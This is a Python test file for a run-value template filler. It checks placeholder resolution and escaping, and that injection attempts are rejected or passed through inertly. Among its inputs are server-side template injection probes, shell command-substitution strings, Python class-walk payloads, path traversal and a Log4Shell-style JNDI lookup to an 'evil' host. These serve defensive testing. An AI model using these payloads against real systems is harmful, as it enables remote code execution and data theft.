"""Texts with places for values of a run: what is filled, what is refused, and that nothing is evaluated (SEC-15)."""

import contextlib
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from foliot.domain.template import (
    FILLED_MAX,
    PLACES_MAX,
    BadTemplate,
    NotFilled,
    RunValues,
    filled,
    filled_value,
    parsed,
)

FACTS: dict[str, str | int] = {"run.id": "r-7", "run.attempt": 2, "job.name": "settle"}
PARAMS = {"order": {"id": 5, "lines": [{"sku": "a"}, {"sku": "b"}]}, "on": True, "half": 0.5, "none": None, "": "empty"}
VALUES = RunValues(params=PARAMS, facts=FACTS, secrets={"KEY": "s3cret"})


@pytest.mark.parametrize(
    ("text", "result"),
    [
        ("", ""),
        ("plain", "plain"),
        ("${params.order.id}", "5"),
        ("a ${params.order.lines.1.sku} b ${run.id}", "a b b r-7"),
        ("${params.on} ${params.half} ${run.attempt}", "true 0.5 2"),
        ("$${params.order.id}", "${params.order.id}"),
        ("$$${run.id}", "$${run.id}"),
        ("$ $$ {} $5 } {", "$ $$ {} $5 } {"),
        ("${secret:KEY}", "s3cret"),
        ("${job.name}${job.name}", "settlesettle"),
    ],
)
def test_a_place_is_filled_with_what_it_names(text: str, result: str) -> None:
    assert filled(parsed(text), VALUES) == result


@pytest.mark.parametrize(
    ("text", "result"),
    [
        ("${params.order}", PARAMS["order"]),
        ("${params}", PARAMS),
        ("${params.none}", None),
        ("${params.on}", True),
        ("${params.order.id}", 5),
        ("${params.order.id} ", "5 "),
        ("${run.attempt}", 2),
    ],
)
def test_a_single_place_keeps_the_type_of_its_value(text: str, result: Any) -> None:
    found = filled_value(parsed(text), VALUES)
    assert found == result
    assert type(found) is type(result)


SSTI = [
    "{{7*7}}",
    "{% for x in y %}",
    "<%= 7*7 %>",
    "#{7*7}",
    "*{7*7}",
    "@(7*7)",
    "%(run)s",
    "{run.id}",
    "{0.__class__}",
    "__import__('os').system('id')",
    "`id`",
    "$(id)",
    "${{7*7}",
    "$ {7*7}",
    "${"[::-1],
    "\\u0024{run.id}",
    "%24%7Brun.id%7D",
]


@pytest.mark.parametrize("text", [text for text in SSTI if "${" not in text])
def test_the_languages_of_other_templates_are_plain_text(text: str) -> None:
    assert filled(parsed(text), VALUES) == text


@pytest.mark.parametrize(
    "text",
    [
        "${",
        "${}",
        "${ params.a }",
        "${params.}",
        "${params..a}",
        "${params.a",
        "${params[0]}",
        "${params.a()}",
        "${params.a|upper}",
        "${params.a+1}",
        "${7*7}",
        "${{7*7}}",
        "${run}",
        "${run.secret}",
        "${job}",
        "${env.PATH}",
        "${env:PATH}",
        "${self.__class__}",
        "${params.__class__.__mro__[1]}",
        "${params.a.b;id}",
        "${T(java.lang.Runtime)}",
        "${jndi:ldap://evil/a}",
        "${secret:}",
        "${secret:A B}",
        "${secret:../x}",
        "${SECRET:A}",
        "${params.ä}",
        "${params.a\n}",
        "${params." + "a" * 300 + "}",
        "${params" + ".a" * 20 + "}",
        "${a${run.id}}",
    ],
)
def test_a_place_has_a_plain_name_or_is_refused(text: str) -> None:
    with pytest.raises(BadTemplate):
        parsed(text)


@pytest.mark.parametrize("text", [*SSTI, "${secret:KEY}", "${params.on}", "$${run.id}", "${", "}"])
def test_a_value_is_never_read_as_a_template(text: str) -> None:
    values = RunValues(params={"a": text}, facts=FACTS, secrets={"KEY": "s3cret"})
    assert filled(parsed("<${params.a}>"), values) == f"<{text}>"
    assert filled_value(parsed("${params.a}"), values) == text


@pytest.mark.parametrize(
    "text",
    [
        "${params.missing}",
        "${params.order.missing}",
        "${params.order.id.x}",
        "${params.order.lines.2.sku}",
        "${params.order.lines.-1.sku}",
        "${params.order.lines.sku}",
        "${params.order.keys}",
        "${params.__len__}",
        "${secret:OTHER}",
        "${run.due}",
        "a ${params.none}",
        "a ${params.order}",
        "a ${params.order.lines}",
    ],
)
def test_a_place_without_a_fitting_value_is_not_filled(text: str) -> None:
    with pytest.raises(NotFilled):
        filled(parsed(text), VALUES)


def test_work_is_bounded() -> None:
    with pytest.raises(BadTemplate, match="places"):
        parsed("${run.id}" * (PLACES_MAX + 1))
    large = RunValues(params={"a": "x" * 60_000}, facts=FACTS)
    with pytest.raises(NotFilled, match=str(FILLED_MAX)):
        filled(parsed("${params.a}" * 400), large)


@given(st.text())
def test_any_text_is_filled_or_refused_and_what_is_escaped_comes_back(text: str) -> None:
    with contextlib.suppress(BadTemplate, NotFilled):
        filled(parsed(text), VALUES)
    assert filled(parsed(text.replace("${", "$${")), VALUES) == text


@given(st.text())
def test_any_value_arrives_as_it_is(value: str) -> None:
    values = RunValues(params={"a": value}, facts=FACTS)
    assert filled(parsed("[${params.a}]"), values) == f"[{value}]"
